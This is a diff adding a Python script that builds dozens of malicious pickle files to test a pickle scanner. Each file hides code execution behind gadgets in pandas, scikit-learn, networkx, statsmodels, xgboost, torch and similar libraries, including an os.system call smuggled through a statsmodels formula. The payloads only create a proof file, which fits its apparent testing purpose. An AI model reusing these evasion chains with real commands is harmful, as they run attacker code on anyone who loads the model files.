@@ -1,0 +1,135 @@
+"""Writes pickles that name nothing dangerous and run what they like: by what methods of vetted classes do with what is in a state.
+
+    python malicious_hooks.py FOLDER [PROOF]
+
+Each must be flagged. With PROOF, the path of a file, each is loaded as well, in a process of its own; those are told that write the file, as most
+do where networkx, pandas, scikit-learn, statsmodels and xgboost are installed.
+"""
+import os
+import struct
+import subprocess
+import sys
+
+folder, proof = os.path.join(sys.argv[1], "malicious"), sys.argv[2] if len(sys.argv) > 2 else "proof"
+os.makedirs(folder, exist_ok=True)
+NONE, TRUE, ONE = b"N", b"\x88", b"G" + struct.pack(">d", 1.0)
+
+
+def s(text):
+    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()
+
+
+def name(module, attribute):
+    return s(module) + s(attribute) + b"\x93"
+
+
+def pairs(*of):
+    return b"}(" + b"".join(of) + b"u"
+
+
+def attributes(**of):
+    return pairs(*(s(k) + v for k, v in of.items()))
+
+
+def row(*of):
+    return b"(" + b"".join(of) + b"t"
+
+
+def items(*of):
+    return b"](" + b"".join(of) + b"e"
+
+
+def called(f, *args):
+    return f + row(*args) + b"R"
+
+
+def made(cls, state=None, *args):
+    return cls + row(*args) + b"\x81" + (state + b"b" if state is not None else b"")
+
+
+def key(value):
+    """A dict with a key."""
+    return b"}" + value + NONE + b"s"
+
+
+# A function of scikit-learn that writes a file: dump_svmlight_file(X, y, f), of which X is left open.
+WRITES = name("sklearn.datasets._svmlight_format_io", "dump_svmlight_file")
+writer = called(name("functools", "partial"), WRITES) + row(WRITES, row(), attributes(y=items(ONE), f=s(proof)), NONE) + b"b"
+writes = called(name("functools", "partial"), WRITES) + row(WRITES, row(), attributes(X=items(items(ONE)), y=items(ONE), f=s(proof)), NONE) + b"b"
+filled = items(items(ONE)) + b"b"  # the state with which it is called
+added = b"(" + items(ONE) + b"e"
+# A dict of networkx that asks NODE_OK of each key, whoever asks for its length or its items. The key is ((1.0,),).
+view = made(name("networkx.classes.coreviews", "FilterAtlas"), attributes(NODE_OK=writer, _atlas=pairs(row(row(ONE)), NONE)))
+
+svc = name("sklearn.svm._classes", "SVC")
+labels = called(name("pandas.core.indexes.base", "_new_Index"), name("pandas.core.indexes.base", "Index"), attributes(data=items(s("a")), name=NONE))
+dtype = made(name("pandas.core.dtypes.base", "ExtensionDtype"), attributes(_metadata=view))
+manager = row(items(view), items(), items(), pairs(s("0.14.1"), attributes(axes=items(view), blocks=items())))
+two = row(items(view, labels), items(), items(), pairs(s("0.14.1"), attributes(axes=items(view, labels), blocks=items())))
+model = name("statsmodels.base.data", "PandasData")
+
+
+def formula(text):
+    return made(model, attributes(restore_model_spec=TRUE, formula=text, frame=pairs(s("y"), items(ONE, ONE))))
+
+
+command = "y ~ __import__('os').system('touch %s')" % proof
+recipes = {
+    # what __setstate__ and __new__ do with what is in a state
+    "axis": made(name("pandas.core.internals.managers", "SingleBlockManager"), manager),
+    "axes": made(name("pandas.core.internals.managers", "BlockManager"), two),
+    "categories": made(name("pandas.core.arrays.categorical", "Categorical"), attributes(_codes=view, _categories=view, _ordered=TRUE)),
+    "labels": made(name("pandas.core.indexes.base", "Index"), None, view),
+    "tuple": made(name("sklearn.utils._pprint", "KeyValTuple"), None, view),
+    "version": made(svc, attributes(_sklearn_version=view)),
+    "version.listed": made(svc, attributes(_sklearn_version=items(view))),
+    "booster": made(name("xgboost.core", "Booster"), attributes(handle=view)),
+    "booster.lightgbm": made(name("lightgbm.basic", "Booster"), attributes(handle=view, _handle=view)),
+    "predictor": made(name("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor"), attributes(nodes=view)),
+    "network": made(name("torch.nn.modules.conv", "Conv2d"), attributes(_parameters=view)),
+    "optimizer": made(name("torch.optim.sgd", "SGD"), attributes(_patch_step_function=writes)),
+    "masked": called(name("numpy.ma.core", "_mareconstruct"), name("numpy.ma", "MaskedArray"), name("numpy", "ndarray"), row(b"K\x01"), s("b"))
+    + row(b"K\x01", row(b"K\x01"), called(name("numpy", "dtype"), s("f8")), b"\x89", b"C\x08" + bytes(8), b"C\x01\x00", view) + b"b",
+    "formula": formula(s(command)),
+    "formula.computed": formula(called(name("builtins", "str"), b"C" + bytes([len(command)]) + command.encode(), s("utf8"))),
+    "formula.names": made(model, attributes(restore_model_spec=TRUE, formula=s("y ~ C(x)"), frame=attributes(y=items(ONE), x=items(items(ONE)), C=writer))),
+    # attributes for which the loader asks an object before its class
+    "setstate": made(svc, attributes(__setstate__=writer)) + filled,
+    "setstate.bytes": made(svc, pairs(called(name("builtins", "str"), b"C\x0c__setstate__", s("utf8")), writer)) + filled,
+    "setstate.scalar": made(svc, pairs(called(name("numpy", "str_"), s("__setstate__")), writer)) + filled,
+    "setstate.pairs": made(name("statsmodels.base.wrapper", "ResultsWrapper"), items(row(s("__setstate__"), writer))) + filled,
+    "setstate.many": made(svc, pairs(*(s("a%d" % n) + NONE for n in range(100)), s("__setstate__") + writer)) + filled,
+    "setstate.namespace": called(name("types", "SimpleNamespace")) + attributes(__setstate__=writer) + b"b" + filled,
+    "setstate.dict": made(name("nltk.probability", "FreqDist"), attributes(__setstate__=writer)) + filled,
+    "extend": made(name("collections", "UserList"), attributes(data=items(), extend=writer)) + added,
+    "extend.held": made(name("collections", "UserList"), attributes(data=made(svc, attributes(extend=writer)))) + added,
+    "extend.ordered": called(name("collections", "OrderedDict")) + attributes(extend=writer) + b"b" + added,
+    "extend.bunch": made(name("sklearn.utils._bunch", "Bunch")) + s("extend") + writer + b"s" + added,
+    "slots.class": made(name("networkx.classes.filters", "show_nodes"), row(attributes(_free_handle=writes), attributes(__class__=name("lightgbm.basic", "Dataset")))) + b"0N",
+    # what hashing, comparing and the end of an object run
+    "key": key(dtype),
+    "key.tuple": key(called(name("builtins", "tuple"), items(dtype))),
+    "key.categories": key(made(name("pandas.core.dtypes.dtypes", "CategoricalDtype"), attributes(categories=view, ordered=TRUE))),
+    "member": called(name("builtins", "frozenset"), items(dtype)),
+    "member.counted": called(name("collections", "Counter"), items(dtype)),
+    "key.zone": key(called(name("datetime", "datetime"), b"C\x0a\x07\xe8\x01\x01" + bytes(6), called(name("dateutil.tz.tz", "tzoffset"), NONE, b"K\x00") + attributes(utcoffset=writer) + b"b")),
+    "end": made(name("lightgbm.basic", "Dataset"), attributes(_free_handle=writes)) + b"0N",
+    "end.closed": made(name("nltk.tag.hunpos", "HunposTagger"), attributes(close=writes)) + b"0N",
+    # what the loading process has one of
+    "logger": called(name("logging", "getLogger"), s("joblib")) + attributes(isEnabledFor=writer) + b"b",
+    "member.enumeration": called(name("catboost.core", "EFstrType"), b"K\x00") + attributes(value=writer) + b"b",
+}
+
+LOADS = "import sys, pickle\ndef load(depth):\n    return load(depth - 1) if depth else pickle.load(open(sys.argv[1], 'rb'))\nload(3)"
+ran = 0
+for recipe, body in recipes.items():
+    at = os.path.join(folder, "hooks.%s.pkl" % recipe)
+    with open(at, "wb") as f:
+        f.write(b"\x80\x04" + body + b".")
+    if len(sys.argv) > 2:
+        if os.path.exists(proof):
+            os.remove(proof)
+        subprocess.run([sys.executable, "-W", "ignore", "-c", LOADS, at], capture_output=True)
+        ran += os.path.exists(proof)
+        print(recipe, "runs" if os.path.exists(proof) else "-")
+print(len(recipes), "files", *["%d run" % ran] * (len(sys.argv) > 2))
